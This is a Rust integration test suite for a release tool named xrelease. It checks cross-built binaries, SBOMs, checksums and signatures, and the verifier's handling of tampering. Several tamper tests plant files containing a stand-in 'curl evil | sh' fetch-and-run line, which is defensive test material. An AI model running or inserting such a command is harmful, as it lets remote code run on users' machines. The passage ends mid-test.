//! xrelease through its real binary, on fixture workspaces: one test binary, specs as tests.

mod adopt;
mod conformance;
mod image;
mod install;
mod interop;
mod intoto;
mod keyless;
mod publish;
mod support;

use support::*;

const AMD64: &str = "x86_64-unknown-linux-gnu";

// ---- the dry run: real cross-built binaries ------------------------------------------------

#[test]
fn dry_run_builds_every_released_bin_for_both_targets() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let dist = fixture.path("dist/v1.0.0");
    let mut names: Vec<String> = std::fs::read_dir(&dist)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with("-linux-amd64") || n.ends_with("-linux-arm64"))
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "app-1.0.0-linux-amd64",
            "app-1.0.0-linux-arm64",
            "app-tool-1.0.0-linux-amd64",
            "app-tool-1.0.0-linux-arm64",
            "other-1.0.0-linux-amd64",
            "other-1.0.0-linux-arm64",
        ],
        "lib-only members, examples and excluded bins produce nothing"
    );
    for name in &names {
        let expected = if name.ends_with("amd64") {
            EM_X86_64
        } else {
            EM_AARCH64
        };
        assert_eq!(elf_machine(&dist.join(name)), expected, "{name}");
    }
}

#[test]
fn the_amd64_binary_runs_and_the_arm64_one_runs_under_qemu() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let dist = fixture.path("dist/v1.0.0");
    let native = std::process::Command::new(dist.join("app-1.0.0-linux-amd64"))
        .output()
        .unwrap();
    assert!(native.status.success());
    assert!(
        String::from_utf8_lossy(&native.stdout).contains("x86_64"),
        "{native:?}"
    );

    let emulated = std::process::Command::new("qemu-aarch64-static")
        .args(["-L", "/usr/aarch64-linux-gnu"])
        .arg(dist.join("app-1.0.0-linux-arm64"))
        .output()
        .expect("qemu-aarch64-static is installed (scripts/setup.sh)");
    assert!(emulated.status.success(), "{emulated:?}");
    assert!(
        String::from_utf8_lossy(&emulated.stdout).contains("aarch64"),
        "{emulated:?}"
    );

    let version = std::process::Command::new("qemu-aarch64-static")
        .args(["-L", "/usr/aarch64-linux-gnu"])
        .arg(dist.join("other-1.0.0-linux-arm64"))
        .arg("--version")
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&version.stdout).trim(),
        "other 1.0.0"
    );
}

#[test]
fn the_manifest_records_every_binary_with_its_digest() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let dist = fixture.path("dist/v1.0.0");
    let manifest: serde_json::Value =
        serde_json::from_str(&fixture.read("dist/v1.0.0/manifest.json")).unwrap();
    assert_eq!(manifest["schema_version"], 1);
    assert_eq!(manifest["tag"], "v1.0.0");
    assert_eq!(
        manifest["source"]["commit"].as_str().unwrap(),
        fixture.git(&["rev-parse", "HEAD"])
    );
    let artifacts = manifest["artifacts"].as_array().unwrap();
    let binaries: Vec<_> = artifacts.iter().filter(|a| a["kind"] == "binary").collect();
    assert_eq!(binaries.len(), 6);
    for a in binaries {
        let bytes = std::fs::read(dist.join(a["name"].as_str().unwrap())).unwrap();
        assert_eq!(a["size"], bytes.len() as u64);
        assert_eq!(a["sha256"].as_str().unwrap(), sha256_hex(&bytes));
        assert!(a["platform"] == "linux-amd64" || a["platform"] == "linux-arm64");
    }
    // One build per target and package: features are never unified across packages.
    let builds = manifest["builds"].as_array().unwrap();
    assert_eq!(builds.len(), 4);
    assert!(
        builds
            .iter()
            .all(|b| b["packages"].as_array().unwrap().len() == 1)
    );
}

#[test]
fn the_dry_run_verifies_and_records_what_it_would_publish() {
    let (fixture, outcome) = basic_release();
    outcome.success().stdout_has("publish-plan.json");
    let plan: serde_json::Value =
        serde_json::from_str(&fixture.read("dist/v1.0.0/publish-plan.json")).unwrap();
    assert!(plan.is_object(), "{plan}");
}

// ---- plan -----------------------------------------------------------------------------------

#[test]
fn plan_json_is_the_ci_matrix() {
    let fixture = Fixture::new("basic");
    let out = fixture.xrelease(&["plan", "v1.0.0", "--json"]).run();
    out.success();
    let plan: serde_json::Value = serde_json::from_str(&out.stdout()).unwrap();
    let targets: Vec<_> = plan["include"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["target"].as_str().unwrap())
        .collect();
    assert_eq!(targets, [AMD64, "aarch64-unknown-linux-gnu"]);
    assert_eq!(
        plan["include"][0]["packages"],
        serde_json::json!(["app", "other"])
    );
    assert_eq!(plan["artifacts"].as_array().unwrap().len(), 6);
    assert!(!fixture.path("target").exists(), "plan builds nothing");
}

// ---- bad input: one test each, exit code 2 and a message that names the problem -------------

#[test]
fn unknown_key_in_release_toml() {
    let fixture = Fixture::new("basic");
    fixture.write(
        "release.toml",
        "[release]\nexclude-bins = [\"app-secret\"]\nname-templat = \"{bin}\"\n",
    );
    fixture.commit("typo");
    fixture
        .xrelease(&["release", "v1.0.0", "--dry-run"])
        .run()
        .code(2)
        .stderr_has("release.toml:3:1: unknown field `name-templat`");
}

#[test]
fn wrong_type_in_release_toml() {
    let fixture = Fixture::new("basic");
    fixture.write(
        "release.toml",
        "[release]\ntargets = \"x86_64-unknown-linux-gnu\"\n",
    );
    fixture.commit("type");
    fixture
        .xrelease(&["release", "v1.0.0", "--dry-run"])
        .run()
        .code(2)
        .stderr_has("release.toml:2:11: invalid type: string \"x86_64-unknown-linux-gnu\", expected a sequence");
}

#[test]
fn malformed_tag() {
    let fixture = Fixture::new("basic");
    fixture
        .xrelease(&["release", "1.0", "--dry-run"])
        .run()
        .code(2)
        .stderr_has("invalid tag `1.0`")
        .stderr_has("expected `vMAJOR.MINOR.PATCH`");
}

#[test]
fn tag_and_package_versions_differ() {
    let fixture = Fixture::new("basic");
    fixture
        .xrelease(&["release", "v1.1.0", "--dry-run"])
        .run()
        .code(2)
        .stderr_has("app is 1.0.0 (tag v1.1.0 needs 1.1.0)")
        .stderr_has("other is 1.0.0 (tag v1.1.0 needs 1.1.0)");
}

#[test]
fn unknown_target() {
    let fixture = Fixture::new("basic");
    fixture.write(
        "release.toml",
        "[release]\ntargets = [\"x86_64-unknown-linux-gnux\"]\n",
    );
    fixture.commit("target");
    fixture
        .xrelease(&["release", "v1.0.0", "--dry-run"])
        .run()
        .code(2)
        .stderr_has("unknown target triple `x86_64-unknown-linux-gnux`");
}

#[test]
fn dirty_tree_without_allow_dirty() {
    let fixture = Fixture::new("basic");
    fixture.write("app/src/new.rs", "// uncommitted\n");
    fixture
        .xrelease(&["release", "v1.0.0", "--dry-run"])
        .run()
        .code(2)
        .stderr_has("uncommitted changes")
        .stderr_has("?? app/src/new.rs")
        .stderr_has("--allow-dirty");
    assert!(
        !fixture.path("dist").exists(),
        "nothing is built or written"
    );
}

#[test]
fn allow_dirty_is_refused_for_a_real_release() {
    let fixture = Fixture::new("basic");
    fixture
        .xrelease(&["release", "v1.0.0", "--allow-dirty"])
        .run()
        .code(2)
        .stderr_has("--allow-dirty is only accepted with --dry-run");
}

#[test]
fn configured_linker_that_does_not_exist() {
    let fixture = Fixture::new("basic");
    // The machine's own overrides (release.local.toml) win over release.toml, so the broken
    // linker goes there, keeping whatever rustc this machine needs for the target.
    let local = fixture.path("release.local.toml");
    let mut overrides: toml::Table = std::fs::read_to_string(&local)
        .map(|t| t.parse().unwrap())
        .unwrap_or_default();
    let target = overrides
        .entry("target")
        .or_insert_with(|| toml::Table::new().into())
        .as_table_mut()
        .unwrap()
        .entry("aarch64-unknown-linux-gnu")
        .or_insert_with(|| toml::Table::new().into())
        .as_table_mut()
        .unwrap();
    target.insert("linker".into(), "aarch64-none-gnu-gcc".into());
    std::fs::write(&local, toml::to_string(&overrides).unwrap()).unwrap();
    fixture
        .xrelease(&["release", "v1.0.0", "--dry-run"])
        .run()
        .code(2)
        .stderr_has("linker `aarch64-none-gnu-gcc` not found")
        .stderr_has("apt-get install gcc-aarch64-none-gnu");
    assert!(!fixture.path("dist").exists());
}

#[test]
fn a_real_release_needs_the_tag_at_head() {
    let fixture = Fixture::new("basic");
    let keys = tempfile::tempdir().unwrap();
    let prefix = keys.path().join("k");
    fixture
        .xrelease(&["keygen", "--output-prefix", prefix.to_str().unwrap()])
        .env("COSIGN_PASSWORD", PASSWORD)
        .run()
        .success();
    let config = key_config(&fixture, keys.path(), "k.key");
    let real = || {
        fixture
            .xrelease(&["release", "v1.0.0"])
            .env("COSIGN_PASSWORD", PASSWORD)
            .env("GITHUB_TOKEN", "t")
    };
    real()
        .run_with_config(&config)
        .code(2)
        .stderr_has("tag v1.0.0 does not exist")
        .stderr_has("git tag -a v1.0.0");
    fixture.git(&["tag", "v1.0.0"]);
    fixture.write("NOTES.md", "a later commit\n");
    fixture.commit("after the tag");
    real()
        .run_with_config(&config)
        .code(2)
        .stderr_has("tag v1.0.0 points at")
        .stderr_has("git checkout v1.0.0");
    assert!(!fixture.path("dist").exists(), "nothing is built");
}

#[test]
fn a_failing_pre_release_check_stops_the_release_with_its_output() {
    let fixture = Fixture::new("basic");
    let config = fixture.read("release.toml").replace(
        "[release]\n",
        "[release]\npre-release-checks = [\"sh -c 'echo audit found RUSTSEC-0000-0000; exit 1'\"]\n",
    );
    fixture.write("release.toml", &config);
    fixture.commit("a failing check");
    fixture
        .xrelease(&["release", "v1.0.0", "--dry-run"])
        .run()
        .code(2)
        .stderr_has("pre-release check `sh -c 'echo audit found RUSTSEC-0000-0000; exit 1'` failed")
        .stderr_has("audit found RUSTSEC-0000-0000");
    assert!(!fixture.path("dist").exists(), "nothing is built");
}

#[test]
fn missing_cargo_lock_is_a_clear_error() {
    let fixture = Fixture::new("basic");
    std::fs::remove_file(fixture.path("Cargo.lock")).unwrap();
    fixture.commit("no lock");
    fixture
        .xrelease(&["plan", "v1.0.0"])
        .run()
        .code(2)
        .stderr_has("has no Cargo.lock")
        .stderr_has("commit Cargo.lock");
}

fn sha256_hex(bytes: &[u8]) -> String {
    xrelease::digest::sha256_bytes(bytes)
}

// ---- SBOMs: exactly what is linked, bound to the bytes, reproducible ------------------------

fn sbom(fixture: &Fixture, binary: &str) -> serde_json::Value {
    serde_json::from_str(&fixture.read(&format!("dist/v1.0.0/{binary}.cdx.json"))).unwrap()
}

fn component_names(sbom: &serde_json::Value) -> std::collections::BTreeSet<String> {
    sbom["components"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            format!(
                "{} v{}",
                c["name"].as_str().unwrap(),
                c["version"].as_str().unwrap()
            )
        })
        .collect()
}

/// The oracle: what `cargo tree` says a package links for a target, the package itself aside.
fn cargo_tree(
    fixture: &Fixture,
    package: &str,
    target: &str,
) -> std::collections::BTreeSet<String> {
    let out = std::process::Command::new("cargo")
        .args([
            "tree",
            "--locked",
            "-p",
            package,
            "--target",
            target,
            "-e",
            "normal,no-proc-macro",
            "--prefix",
            "none",
        ])
        .current_dir(&fixture.root)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    let mut lines = text.lines();
    let root = lines.next().unwrap();
    assert!(root.starts_with(&format!("{package} v")), "{root}");
    lines
        .map(|l| l.split_whitespace().take(2).collect::<Vec<_>>().join(" "))
        .filter(|l| !l.is_empty())
        .collect()
}

#[test]
fn each_sbom_lists_exactly_what_cargo_tree_says_is_linked() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let mut checked = 0;
    for (bin, package) in [("app", "app"), ("app-tool", "app"), ("other", "other")] {
        for (target, platform) in [
            (AMD64, "linux-amd64"),
            ("aarch64-unknown-linux-gnu", "linux-arm64"),
        ] {
            let doc = sbom(fixture, &format!("{bin}-1.0.0-{platform}"));
            assert_eq!(
                component_names(&doc),
                cargo_tree(fixture, package, target),
                "{bin} for {target}"
            );
            checked += 1;
        }
    }
    assert_eq!(checked, 6);
}

#[test]
fn target_specific_and_host_only_crates_are_where_they_belong() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let names = |binary: &str| -> Vec<String> {
        sbom(fixture, binary)["components"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["name"].as_str().unwrap().to_string())
            .collect()
    };
    let app_arm64 = names("app-1.0.0-linux-arm64");
    let app_amd64 = names("app-1.0.0-linux-amd64");
    let other_amd64 = names("other-1.0.0-linux-amd64");
    // The cfg(target_arch = "aarch64") dependency is linked into the arm64 binary only.
    assert!(app_arm64.contains(&"memchr".to_string()), "{app_arm64:?}");
    assert!(!app_amd64.contains(&"memchr".to_string()), "{app_amd64:?}");
    // `other` turns on regex's default features; that must not leak into `app`.
    assert!(
        other_amd64.contains(&"aho-corasick".to_string()),
        "{other_amd64:?}"
    );
    assert!(
        !app_arm64.contains(&"aho-corasick".to_string())
            && !app_amd64.contains(&"aho-corasick".to_string())
    );
    // The renamed dependency (`numfmt = { package = "itoa" }`) is listed under its real name.
    assert!(app_amd64.contains(&"itoa".to_string()));
    // Host-only: the build-dependency and the proc-macro are never linked.
    for all in [&app_arm64, &app_amd64, &other_amd64] {
        assert!(
            !all.contains(&"autocfg".to_string()) && !all.contains(&"fixture-derive".to_string()),
            "{all:?}"
        );
    }
    // Edges are those of this build's features: app's regex is built without memchr.
    let doc = sbom(fixture, "app-1.0.0-linux-arm64");
    let regex = doc["dependencies"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["ref"] == "pkg:cargo/regex@1.13.1")
        .unwrap();
    let edges = regex["dependsOn"].as_array().unwrap();
    assert!(
        !edges
            .iter()
            .any(|e| e.as_str().unwrap().starts_with("pkg:cargo/memchr@")),
        "{edges:?}"
    );
    let doc = sbom(fixture, "other-1.0.0-linux-arm64");
    let regex = doc["dependencies"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["ref"] == "pkg:cargo/regex@1.13.1")
        .unwrap();
    assert!(
        regex["dependsOn"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e.as_str().unwrap().starts_with("pkg:cargo/memchr@"))
    );
}

#[test]
fn sbom_fields_bind_the_document_to_the_binary() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let dist = fixture.path("dist/v1.0.0");
    let doc = sbom(fixture, "app-1.0.0-linux-arm64");
    assert_eq!(doc["bomFormat"], "CycloneDX");
    assert_eq!(doc["specVersion"], "1.5");
    let subject = &doc["metadata"]["component"];
    assert_eq!(subject["type"], "application");
    assert_eq!(subject["name"], "app");
    assert_eq!(subject["version"], "1.0.0");
    assert_eq!(
        subject["purl"],
        "pkg:cargo/app@1.0.0?download_url=file://app"
    );
    let binary = std::fs::read(dist.join("app-1.0.0-linux-arm64")).unwrap();
    assert_eq!(subject["hashes"][0]["alg"], "SHA-256");
    assert_eq!(
        subject["hashes"][0]["content"].as_str().unwrap(),
        sha256_hex(&binary)
    );
    assert_eq!(
        doc["metadata"]["tools"]["components"][0]["name"],
        "xrelease"
    );
    // The timestamp is the commit time (the fixture's commits are dated 2026-01-02T03:04:05Z).
    assert_eq!(doc["metadata"]["timestamp"], "2026-01-02T03:04:05Z");

    let itoa = doc["components"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "itoa")
        .unwrap();
    let lock = fixture.read("Cargo.lock");
    let checksum = itoa["hashes"][0]["content"].as_str().unwrap();
    assert!(
        lock.contains(&format!("checksum = \"{checksum}\"")),
        "itoa's hash is Cargo.lock's"
    );
    assert_eq!(
        itoa["purl"],
        format!("pkg:cargo/itoa@{}", itoa["version"].as_str().unwrap())
    );
    let corelib = doc["components"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "corelib")
        .unwrap();
    assert_eq!(corelib["licenses"][0]["expression"], "MIT OR Apache-2.0");

    // The manifest records each SBOM and what it describes.
    let manifest: serde_json::Value =
        serde_json::from_str(&fixture.read("dist/v1.0.0/manifest.json")).unwrap();
    let entry = manifest["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["name"] == "app-1.0.0-linux-arm64.cdx.json")
        .unwrap();
    assert_eq!(entry["kind"], "sbom");
    assert_eq!(entry["describes"], "app-1.0.0-linux-arm64");
    let sboms = manifest["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["kind"] == "sbom")
        .count();
    assert_eq!(sboms, 6);
}

#[test]
fn every_sbom_validates_against_the_official_cyclonedx_schema() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let mut files: Vec<_> = std::fs::read_dir(fixture.path("dist/v1.0.0"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.to_string_lossy().ends_with(".cdx.json"))
        .collect();
    files.sort();
    assert_eq!(files.len(), 6);
    let good = validate_cyclonedx(&files);
    assert!(good.iter().all(|r| r == "valid"), "{good:?}");

    // The validator can fail: a serial number that is not a URN UUID is refused.
    let broken = tempfile::tempdir().unwrap();
    let bad = broken.path().join("bad.cdx.json");
    let mut doc = sbom(fixture, "app-1.0.0-linux-amd64");
    doc["serialNumber"] = "not-a-urn".into();
    std::fs::write(&bad, doc.to_string()).unwrap();
    let refused = validate_cyclonedx(&[bad]);
    assert_ne!(refused[0], "valid");
}

/// Runs the CycloneDX project's own JSON-schema validator (PyPI `cyclonedx-python-lib`,
/// installed by scripts/setup.sh) over each file: "valid" or the validator's complaint.
fn validate_cyclonedx(files: &[std::path::PathBuf]) -> Vec<String> {
    let script = r#"
import sys
from cyclonedx.validation.json import JsonStrictValidator
from cyclonedx.schema import SchemaVersion
v = JsonStrictValidator(SchemaVersion.V1_5)
for f in sys.argv[1:]:
    e = v.validate_str(open(f).read())
    print("valid" if e is None else "invalid: " + str(e).replace("\n", " ")[:300])
"#;
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(script)
        .args(files)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "the CycloneDX validator did not run (run scripts/setup.sh): {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect()
}

#[test]
fn two_runs_give_identical_binaries_and_sboms() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    // A second release of the same commit into another directory (dist/ is git-ignored).
    fixture
        .xrelease(&[
            "release",
            "v1.0.0",
            "--dry-run",
            "--quiet",
            "--dist",
            "dist/again",
        ])
        .run()
        .success();
    let first = fixture.path("dist/v1.0.0");
    let second = fixture.path("dist/again");
    let mut compared = 0;
    for entry in std::fs::read_dir(&first).unwrap() {
        let name = entry.unwrap().file_name().to_string_lossy().into_owned();
        // Binaries, SBOMs and their sums are reproducible; signatures (a throwaway key per
        // rehearsal), provenance (timestamps) and the manifest (timings) are per run. The
        // installer carries the signing key, so it (and its line in SHA256SUMS) differs in
        // that key only.
        if !(name.contains("-linux-") && !name.contains(".intoto.")
            || name == "SHA256SUMS"
            || name == "install.sh")
        {
            continue;
        }
        let read = |dir: &std::path::Path| match name.as_str() {
            "SHA256SUMS" => sums_but_the_installer(dir).into_bytes(),
            "install.sh" => installer_but_the_key(dir).into_bytes(),
            _ => std::fs::read(dir.join(&name)).unwrap_or_else(|e| panic!("{name}: {e}")),
        };
        assert!(
            read(&first) == read(&second),
            "{name} differs between two runs"
        );
        compared += 1;
    }
    assert_eq!(compared, 14);
}

/// A rehearsal's SHA256SUMS without the installer's line (its throwaway key is per run).
fn sums_but_the_installer(dir: &std::path::Path) -> String {
    std::fs::read_to_string(dir.join("SHA256SUMS"))
        .unwrap()
        .lines()
        .filter(|l| !l.ends_with("  install.sh"))
        .map(|l| format!("{l}\n"))
        .collect()
}

/// A rehearsal's install.sh with the key it carries (that run's `cosign.pub`) taken out.
fn installer_but_the_key(dir: &std::path::Path) -> String {
    let key = std::fs::read_to_string(dir.join("cosign.pub")).unwrap();
    let text = std::fs::read_to_string(dir.join("install.sh")).unwrap();
    assert!(
        text.contains(key.trim_end()),
        "install.sh carries cosign.pub"
    );
    text.replace(key.trim_end(), "KEY")
}

#[test]
fn out_of_date_cargo_lock_is_a_clear_error() {
    let fixture = Fixture::new("basic");
    let manifest = fixture
        .read("app/Cargo.toml")
        .replace("[dependencies]\n", "[dependencies]\nhex = \"0.4\"\n");
    fixture.write("app/Cargo.toml", &manifest);
    fixture.commit("new dependency, lock not updated");
    fixture
        .xrelease(&["release", "v1.0.0", "--dry-run"])
        .run()
        .code(2)
        .stderr_has("Cargo.lock")
        .stderr_has("out of date");
}

// ---- SHA256SUMS, signature, verify: interop and the tamper matrix ----------------------------

#[test]
fn standard_tools_accept_the_checksums_and_the_signature() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let dist = fixture.path("dist/v1.0.0");
    let sums = std::process::Command::new("sha256sum")
        .args(["-c", "--strict", "SHA256SUMS"])
        .current_dir(&dist)
        .output()
        .unwrap();
    assert!(
        sums.status.success(),
        "{}",
        String::from_utf8_lossy(&sums.stderr)
    );
    assert_eq!(
        String::from_utf8_lossy(&sums.stdout)
            .lines()
            .filter(|l| l.ends_with(": OK"))
            .count(),
        13
    );

    let openssl = openssl_verify(&dist, "cosign.pub", "SHA256SUMS.sig", "SHA256SUMS");
    assert_eq!(openssl, "Verified OK");
    // SHA256SUMS is sorted by name, in `sha256sum` format.
    let text = fixture.read("dist/v1.0.0/SHA256SUMS");
    let names: Vec<&str> = text.lines().map(|l| &l[66..]).collect();
    let mut sorted = names.clone();
    sorted.sort();
    assert_eq!(names, sorted);
}

/// `openssl dgst -sha256 -verify PUB -signature <(base64 -d SIG) FILE`: its first output line.
fn openssl_verify(dir: &std::path::Path, public: &str, sig: &str, file: &str) -> String {
    use base64::Engine as _;
    let text = std::fs::read_to_string(dir.join(sig)).unwrap();
    let der = base64::engine::general_purpose::STANDARD
        .decode(text.trim())
        .unwrap();
    let scratch = tempfile::tempdir().unwrap();
    let der_path = scratch.path().join("sig.der");
    std::fs::write(&der_path, der).unwrap();
    let out = std::process::Command::new("openssl")
        .args(["dgst", "-sha256", "-verify"])
        .arg(dir.join(public))
        .arg("-signature")
        .arg(&der_path)
        .arg(dir.join(file))
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A copy of the good release to tamper with.
fn release_copy() -> (tempfile::TempDir, std::path::PathBuf) {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let scratch = tempfile::tempdir().unwrap();
    let dir = scratch.path().join("release");
    copy_tree(&fixture.path("dist/v1.0.0"), &dir);
    (scratch, dir)
}

fn verify_json(dir: &std::path::Path, key: &std::path::Path) -> (i32, serde_json::Value) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
        .arg("verify")
        .arg(dir)
        .arg("--key")
        .arg(key)
        .arg("--json")
        .output()
        .unwrap();
    let report = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code().unwrap(), report)
}

/// The failed checks of a report, as `check subject` strings.
fn failed(report: &serde_json::Value) -> Vec<String> {
    report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["passed"] == false)
        .map(|c| {
            format!(
                "{} {}: {}",
                c["check"].as_str().unwrap(),
                c["subject"].as_str().unwrap(),
                c["detail"].as_str().unwrap()
            )
        })
        .collect()
}

#[track_caller]
fn assert_fails(dir: &std::path::Path, key: &std::path::Path, expected: &str) -> Vec<String> {
    let (code, report) = verify_json(dir, key);
    let failures = failed(&report);
    assert_eq!(code, 3, "verify must exit 3; failures: {failures:?}");
    assert_eq!(report["ok"], false);
    assert!(
        failures.iter().any(|f| f.starts_with(expected)),
        "expected a failure `{expected}…`, got {failures:?}"
    );
    failures
}

fn flip_byte(path: &std::path::Path, at: usize) {
    let mut bytes = std::fs::read(path).unwrap();
    let at = at.min(bytes.len() - 1);
    bytes[at] ^= 0x01;
    std::fs::write(path, bytes).unwrap();
}

fn rewrite_sums(dir: &std::path::Path, edit: impl FnOnce(String) -> String) {
    let path = dir.join("SHA256SUMS");
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(path, edit(text)).unwrap();
}

/// Recomputes SHA256SUMS from the files on disk (what an attacker who swapped files would do).
fn recompute_sums(dir: &std::path::Path) {
    let text = std::fs::read_to_string(dir.join("SHA256SUMS")).unwrap();
    let mut out = String::new();
    for line in text.lines() {
        let name = &line[66..];
        let bytes = std::fs::read(dir.join(name)).unwrap();
        out.push_str(&format!("{}  {name}\n", sha256_hex(&bytes)));
    }
    std::fs::write(dir.join("SHA256SUMS"), out).unwrap();
}

fn other_key(dir: &std::path::Path) -> (xrelease::signing::key::PrivateKey, std::path::PathBuf) {
    let key = xrelease::signing::key::PrivateKey::generate().unwrap();
    let path = dir.join("other.pub");
    std::fs::write(&path, key.public_key().to_pem()).unwrap();
    (key, path)
}

#[test]
fn the_good_release_passes_verification() {
    let (_scratch, dir) = release_copy();
    let (code, report) = verify_json(&dir, &dir.join("cosign.pub"));
    assert_eq!(failed(&report), Vec::<String>::new());
    assert_eq!(code, 0);
    assert_eq!(report["ok"], true);
    assert_eq!(report["passed"], report["total"]);
    assert!(report["total"].as_u64().unwrap() >= 23);
    // The human form: one line per check and the summary.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
        .args(["verify"])
        .arg(&dir)
        .arg("--key")
        .arg(dir.join("cosign.pub"))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("[PASS] signature  SHA256SUMS.sig"), "{text}");
    assert!(
        text.trim_end()
            .ends_with(&format!("{0}/{0} checks passed", report["total"])),
        "{text}"
    );
}

#[test]
fn tamper_a_byte_in_a_binary() {
    let (_s, dir) = release_copy();
    flip_byte(&dir.join("app-1.0.0-linux-arm64"), 5000);
    let failures = assert_fails(
        &dir,
        &dir.join("cosign.pub"),
        "checksum app-1.0.0-linux-arm64: expected sha256",
    );
    assert!(
        failures
            .iter()
            .any(|f| f.starts_with("sbom app-1.0.0-linux-arm64.cdx.json")),
        "{failures:?}"
    );
}

#[test]
fn tamper_a_byte_in_an_sbom() {
    let (_s, dir) = release_copy();
    let path = dir.join("other-1.0.0-linux-amd64.cdx.json");
    let text = std::fs::read_to_string(&path)
        .unwrap()
        .replacen("\"library\"", "\"librarz\"", 1);
    std::fs::write(&path, text).unwrap();
    assert_fails(
        &dir,
        &dir.join("cosign.pub"),
        "checksum other-1.0.0-linux-amd64.cdx.json: expected sha256",
    );
}

#[test]
fn tamper_a_sha256sums_line() {
    let (_s, dir) = release_copy();
    rewrite_sums(&dir, |t| {
        let line = t
            .lines()
            .find(|l| l.ends_with("  app-tool-1.0.0-linux-amd64"))
            .unwrap()
            .to_string();
        t.replace(
            &line,
            &format!("{}  app-tool-1.0.0-linux-amd64", "0".repeat(64)),
        )
    });
    let failures = assert_fails(
        &dir,
        &dir.join("cosign.pub"),
        "checksum app-tool-1.0.0-linux-amd64: expected sha256 0000",
    );
    assert!(
        failures
            .iter()
            .any(|f| f.starts_with("signature SHA256SUMS.sig")),
        "{failures:?}"
    );
}

#[test]
fn tamper_swap_a_binary_and_recompute_the_sums() {
    let (_s, dir) = release_copy();
    std::fs::copy(
        dir.join("app-tool-1.0.0-linux-amd64"),
        dir.join("app-1.0.0-linux-amd64"),
    )
    .unwrap();
    recompute_sums(&dir);
    let failures = assert_fails(
        &dir,
        &dir.join("cosign.pub"),
        "signature SHA256SUMS.sig: the signature does not verify",
    );
    assert!(
        failures.iter().all(|f| !f.starts_with("checksum ")),
        "the sums match the files: {failures:?}"
    );
    assert!(
        failures
            .iter()
            .any(|f| f.starts_with("signature SHA256SUMS.sigstore.json")),
        "{failures:?}"
    );
}

#[test]
fn tamper_a_listed_file_is_missing() {
    let (_s, dir) = release_copy();
    std::fs::remove_file(dir.join("other-1.0.0-linux-arm64")).unwrap();
    assert_fails(
        &dir,
        &dir.join("cosign.pub"),
        "checksum other-1.0.0-linux-arm64: other-1.0.0-linux-arm64 is listed but missing",
    );
}

#[test]
fn tamper_an_extra_file_of_any_name() {
    // Names that look like metadata are no pass: only the files the layout defines for what
    // SHA256SUMS lists (under this signing mode) may sit beside the listed ones.
    let (_s, dir) = release_copy();
    let key = dir.join("cosign.pub");
    let trusted = dir.parent().unwrap().join("trusted.pub");
    std::fs::copy(&key, &trusted).unwrap();
    for name in [
        "uninstall.sh",
        "notes.txt",
        "evil.sigstore.json",
        "evil.intoto.jsonl",
        "SHA256SUMS.pem",
        "SHA256SUMS.sig.bak",
        "app-1.0.0-linux-amd64.cdx.sigstore.json",
        "app-9.9.9-linux-amd64.cdx.intoto.jsonl",
        "app-1.0.0-linux-amd64.cdx.json.cdx.intoto.jsonl",
        "manifest.json.sig",
        // in-toto links belong only where a root.layout lists their step and key.
        "tag.0123abcd.link",
        "build-linux-amd64.0123abcd.link",
    ] {
        std::fs::write(dir.join(name), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        assert_fails(
            &dir,
            &trusted,
            &format!("complete release: not listed in SHA256SUMS: {name} "),
        );
        std::fs::remove_file(dir.join(name)).unwrap();
    }
    // A `root.layout` is admitted by name only to be checked as one.
    std::fs::write(dir.join("root.layout"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    assert_fails(&dir, &trusted, "metadata root.layout: ");
    std::fs::remove_file(dir.join("root.layout")).unwrap();
    let (code, report) = verify_json(&dir, &trusted);
    assert_eq!((code, failed(&report)), (0, Vec::<String>::new()));
}

#[test]
fn tamper_the_records_beside_the_release() {
    // The unlisted files the layout allows are checked as what they claim to be.
    let (_s, dir) = release_copy();
    let trusted = dir.parent().unwrap().join("trusted.pub");
    std::fs::copy(dir.join("cosign.pub"), &trusted).unwrap();
    let (_, other) = other_key(dir.parent().unwrap());
    std::fs::copy(&other, dir.join("cosign.pub")).unwrap();
    assert_fails(&dir, &trusted, "metadata cosign.pub: holds key ");
    std::fs::copy(&trusted, dir.join("cosign.pub")).unwrap();

